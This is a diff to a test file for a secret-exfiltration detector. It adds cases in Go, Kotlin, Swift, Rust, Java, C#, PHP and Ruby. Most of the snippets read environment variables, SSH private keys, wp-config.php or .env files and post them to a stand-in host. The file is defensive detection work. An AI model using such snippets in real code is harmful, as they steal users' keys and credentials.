@@ -18,6 +18,18 @@ describe("the environment that is sent off is found in", () => {
       `req = Net::HTTP::Post.new(URI("${url}"))\nd = ENV.to_a\nreq.body = d\nx = 1\nhttp.request(req)`,
     ],
     ["Ruby, a socket", `d = ENV.each { |k, v| k }\nh = "${url}"\nTCPSocket.new(h, 80).write(d)`],
+    [
+      "Go",
+      `package main\nfunc main() {\n\te := os.Environ()\n\thttp.Post("${url}", "", strings.NewReader(strings.Join(e, "\\n")))\n}`,
+    ],
+    [
+      "Kotlin",
+      `import okhttp3.*\nfun main() {\n  val e = System.getenv().toString()\n  val r = Request.Builder().url("${url}").post(e.toRequestBody()).build()\n}`,
+    ],
+    [
+      "Swift",
+      `import Foundation\nlet e = ProcessInfo.processInfo.environment\nvar r = URLRequest(url: URL(string: "${url}")!)\nr.httpBody = try JSONEncoder().encode(e)`,
+    ],
     ["Perl", `my $d = join("\\n", %ENV);\n$ua->post("${url}", Content => $d);`],
     [
       "PHP",
@@ -35,6 +47,18 @@ describe("the environment that is sent off is found in", () => {
 
 describe("a file of secrets that is sent off is found in", () => {
   test.each([
+    [
+      "Rust",
+      `use std::fs;\nfn main() {\n    let home = std::env::var("HOME").unwrap();\n    let key = fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap();\n    ureq::post("${url}").send_string(&key).unwrap();\n}`,
+    ],
+    [
+      "Java",
+      `import java.nio.file.*;\nclass A {\n  String home = System.getProperty("user.home");\n  String key = Files.readString(Path.of(home, ".ssh", "id_rsa"));\n  HttpRequest r = HttpRequest.newBuilder(URI.create("${url}")).POST(BodyPublishers.ofString(key)).build();\n}`,
+    ],
+    [
+      "C#",
+      `using System.IO;\nvar home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nvar key = File.ReadAllText(Path.Combine(home, ".ssh", "id_rsa"));\nawait client.PostAsync("${url}", new StringContent(key));`,
+    ],
     ["Ruby", `k = File.read(File.expand_path("~/.ssh/id_rsa"))\nNet::HTTP.post(URI("${url}"), k)`],
     [
       "Ruby, the home folder",
@@ -45,6 +69,26 @@ describe("a file of secrets that is sent off is found in", () => {
   ])("%s", (_name, text) => {
     expect(seenIn(text)).toEqual(["sends ~/.ssh/id_rsa to c.zzz.io"]);
   });
+});
+
+test.each([
+  [
+    "a folder of keys, in Go",
+    "~/.ssh",
+    `package main\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tfiles, _ := filepath.Glob(filepath.Join(home, ".ssh", "id_*"))\n\tfor _, f := range files {\n\t\tb, _ := os.ReadFile(f)\n\t\thttp.Post("${url}", "text/plain", bytes.NewReader(b))\n\t}\n}`,
+  ],
+  [
+    "the settings of a site, in PHP",
+    "/wp-config.php",
+    `$c = file_get_contents($argv[1] . '/wp-config.php');\n$u = "${url}";\n$http->post($u, $c);`,
+  ],
+  [
+    "the keys of a project, in Ruby",
+    ".env",
+    `k = File.read(".env")\nNet::HTTP.post(URI("${url}"), k)`,
+  ],
+])("%s", (_name, file, text) => {
+  expect(seenIn(text)).toEqual([`sends ${file} to c.zzz.io`]);
 });
 
 const hits = (text: string) =>
@@ -59,6 +103,11 @@ test("in a block of a text", () => {
 
 describe("silent:", () => {
   test.each<[string, string, TextFormat?]>([
+    [
+      "Go that passes the environment on",
+      `package main\nfunc main() {\n\tcmd.Env = os.Environ()\n\thttp.Get("${url}")\n}`,
+    ],
+    ["words of Go in another language", `e = os.Environ()\nhttp.Post("${url}", e)`],
     ["one variable", `k = ENV["A_KEY"]\nNet::HTTP.post(URI("${url}"), k)`],
     ["what is not sent", `d = ENV.to_h\nputs d\nNet::HTTP.post(URI("${url}"), "hello")`],
     ["notes", `d = File.read("notes.txt")\nNet::HTTP.post(URI("${url}"), d)`],
